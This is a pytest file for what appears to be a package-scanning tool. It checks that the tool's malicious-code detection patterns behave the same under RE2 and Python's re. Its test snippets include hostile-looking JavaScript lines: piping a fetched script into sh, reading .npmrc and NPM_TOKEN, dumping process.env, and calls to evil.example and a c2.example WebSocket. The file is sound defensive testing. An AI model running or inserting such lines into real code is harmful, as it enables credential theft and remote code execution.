"""The review's signal patterns give the same answers with RE2 (pystage/review/fastre.py)
as with re: first match and count for every pattern of pystage.review.content, over
real code (the JavaScript inside every tarball under tests/data, this repository's
own Python) and over attack snippets written to sit on the differences between the
engines (vertical tabs, classes with \\s, words next to underscores)."""

from __future__ import annotations

import re
import tarfile
from pathlib import Path

import pytest

from pystage.review import content, fastre

pytest.importorskip("re2", reason="google-re2 is not installed: the patterns run with re")

SNIPPETS = [
    b"eval (atob('ZXZpbA=='))",
    b"eval\x0b(payload)",  # a vertical tab: \s in re, not in RE2 unless spelled out
    b"new\x0bFunction('return this')()",
    b"require(\x0b'https'\x0b)",
    b"const _0x1a2b=['\\x68\\x65\\x6c\\x6c\\x6f\\x21'];_0x1a2b_0x1234 _0x3c4d",
    b"Buffer.from(data.slice(0, 300), 'base64')",
    b'Buffer.from(x\n, "hex")',
    b"require('child_process').execSync('curl -s http://a.b/c | sh')",
    b"fs.readFileSync(os.homedir() + '/.npmrc'); process.env.NPM_TOKEN",
    b"JSON.stringify( process.env )",
    b"{...process.env}",
    b"fetch ('https://evil.example/x'); new WebSocket('wss://c2.example')",
    b"window.ethereum.request({method:'eth_accounts'})",
    b"my_eval(x); evaluate(y); xeval(z)",  # word boundaries
    b"\\u0068\\u0065\\u006c\\u006c\\u006f\\u0021",
]


def _texts() -> list[bytes]:
    root = Path(__file__).resolve().parent.parent
    texts = list(SNIPPETS)
    for path in sorted((root / "pystage").rglob("*.py"))[:80]:
        texts.append(path.read_bytes())
    for path in sorted((root / "tests" / "data").rglob("*.tgz")):
        with tarfile.open(path) as tar:
            for member in tar:
                if member.isfile() and member.name.endswith((".js", ".mjs", ".cjs", ".ts")):
                    texts.append(tar.extractfile(member).read())  # in memory only
    texts.append(b"\n".join(SNIPPETS))
    return texts


PATTERNS = {**{n: p for n, (p, _) in content.PATTERNS.items()}, "url": content.URL}


@pytest.mark.parametrize("name", sorted(PATTERNS))
def test_re2_and_re_agree_on_every_signal_pattern(name):
    pattern = PATTERNS[name]
    fast = fastre.compile_like(pattern)
    assert fast is not pattern, f"{name} is not run by RE2 (fastre refused it)"
    for text in _texts():
        slow_first, fast_first = pattern.search(text), fast.search(text)
        assert (slow_first and slow_first.span()) == (fast_first and fast_first.span()), text[:80]
        assert len(pattern.findall(text)) == len(fast.findall(text)), text[:80]


def test_the_scanner_uses_re2_for_every_pattern():
    assert all(type(p).__module__ != "re" for p in content.SEARCH.values())


@pytest.mark.parametrize(
    "source",
    [rb"^x", rb"x$", rb"(?<=a)b", rb"(?!a)b", rb"(a)\1", rb"(?i)abc", rb"(?P<n>a)", rb"a*+"],
)
def test_what_only_re_has_stays_with_re(source):
    pattern = re.compile(source)
    assert fastre.translate(source) is None
    assert fastre.compile_like(pattern) is pattern


def test_spaces_are_spelled_out_inside_and_outside_classes():
    assert fastre.translate(rb"a\s+b") == rb"a[\t\n\x0b\f\r ]+b"
    assert fastre.translate(rb"[^\s,]") == rb"[^\t\n\x0b\f\r ,]"
    assert fastre.translate(rb"\\s") == rb"\\s"  # an escaped backslash, then s
